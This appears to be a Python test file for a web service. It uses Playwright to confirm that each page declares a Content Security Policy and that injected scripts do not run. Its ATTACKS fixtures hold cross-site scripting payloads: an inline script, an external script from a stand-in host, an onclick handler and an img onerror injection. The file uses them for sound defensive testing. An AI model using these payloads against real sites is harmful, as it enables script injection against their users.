"""No page breaks its own Content Security Policy, and what an attacker would put into one does not run."""

import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.support.reader import sign_in
from tests.support.service import Service
from tests.support.site import PAGES

OF_THE_SERVICE = {
    "amal": ("/t/rota-four-on", "/me/export", "/me/mail", "/auth/sessions", "/insight/", "/privacy/now", "/t/nothing"),
    "dana": ("/admin/", "/admin/?queue=held", "/admin/search?words=the", "/admin/rules", "/admin/people/amal"),
    "hanna": ("/admin/sealed/", "/admin/holds", "/admin/unsealings/"),
    "noor": ("/admin/audit", "/admin/leavers"),
    "ines": ("/admin/responses",),
}
# Each on a page that was loaded already, as a hole in our own scripts would have it.
ATTACKS = {
    "a script in the page": """() => {
      const script = document.createElement("script");
      try { script.textContent = "window.ran = 'inline'"; document.body.append(script); } catch {}
    }""",
    "a script from elsewhere": """() => {
      const script = document.createElement("script");
      try { script.src = "https://elsewhere.example/x.js"; document.body.append(script); } catch {}
    }""",
    "a handler": """() => {
      const button = document.createElement("button");
      try { button.setAttribute("onclick", "window.ran = 'handler'"); } catch {}
      document.body.append(button); button.click();
    }""",
    "markup": """() => {
      const part = document.createElement("div"); document.body.append(part);
      try { part.innerHTML = "<img src=x onerror=\\"window.ran = 'markup'\\">"; } catch { window.refused = true; }
    }""",
}


def test_every_page_of_the_site_says_its_policy_before_anything_is_loaded(built_site: Path) -> None:
    said = re.compile(
        r'<head>\s*<meta charset="utf-8">\s*<meta http-equiv="Content-Security-Policy" content="default-src'
    )
    pages = list(built_site.rglob("*.html"))

    assert len(pages) > len(PAGES)
    assert [page for page in pages if not said.search(page.read_text("utf-8").replace("&#39;", "'"))] == []


@pytest.mark.browser
@pytest.mark.parametrize("person", [None, *OF_THE_SERVICE])
def test_no_page_breaks_its_policy(chromium: Browser, townhall: Service, person: str | None) -> None:
    with chromium.new_context(base_url=townhall.address) as context:
        if person:
            sign_in(context.request, townhall, person)
        page = context.new_page()
        broken: list[str] = []
        page.on("console", lambda said: broken.append(f"{page.url}: {said.text}") if "Policy" in said.text else None)
        page.on("pageerror", lambda error: broken.append(f"{page.url}: {error}"))
        for address in OF_THE_SERVICE[person] if person else PAGES.values():
            page.goto(address, wait_until="load")

        assert broken == []


@pytest.mark.browser
@pytest.mark.parametrize("address", ["/news/night-shifts-four-on-four-off/#discussion", "/t/rota-four-on"])
def test_what_is_put_into_a_page_does_not_run(chromium: Browser, townhall: Service, address: str) -> None:
    with chromium.new_context(base_url=townhall.address) as context:
        asked: list[str] = []
        context.on("request", lambda request: asked.append(request.url))
        page: Page = context.new_page()
        page.goto(address)
        for attack in ATTACKS.values():
            page.evaluate(attack)
        page.wait_for_timeout(100)

        assert page.evaluate("[window.ran, window.refused]") == [None, True]
        assert all(url.startswith(townhall.address) for url in asked)
